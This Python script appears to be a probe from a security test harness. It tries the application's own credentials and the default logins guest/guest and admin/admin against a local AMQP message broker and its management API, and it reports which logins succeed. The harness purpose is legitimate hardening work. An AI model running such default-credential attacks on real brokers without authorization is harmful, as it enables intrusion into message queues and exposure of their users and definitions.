"""Tries every door of the broker with its own and the usual logins."""

import base64
import os
import urllib.request
from urllib.parse import urlsplit

from attack_kit import FACTS, ran, won
from kombu import Connection

ran()
own = urlsplit(os.environ["CELERY_BROKER_URL"])
logins = [(own.username, own.password), ("guest", "guest"), ("admin", "admin")]
for user, password in logins:
    for host in ("%2F", FACTS["vhost"]):
        try:
            with Connection(
                f"amqp://{user}:{password}@127.0.0.1:{own.port}/{host}", connect_timeout=2
            ) as link:
                link.connect()
                won(f"{user} is in {host}")
        except Exception:
            pass
    for path in ("whoami", "users", "vhosts", "definitions", "connections"):
        request = urllib.request.Request(f"{FACTS['management']}/api/{path}")
        login = base64.b64encode(f"{user}:{password}".encode()).decode()
        request.add_header("Authorization", f"Basic {login}")
        try:
            with urllib.request.urlopen(request, timeout=2) as answer:
                won(f"{user}: {path}: {answer.status}")
        except Exception:
            pass
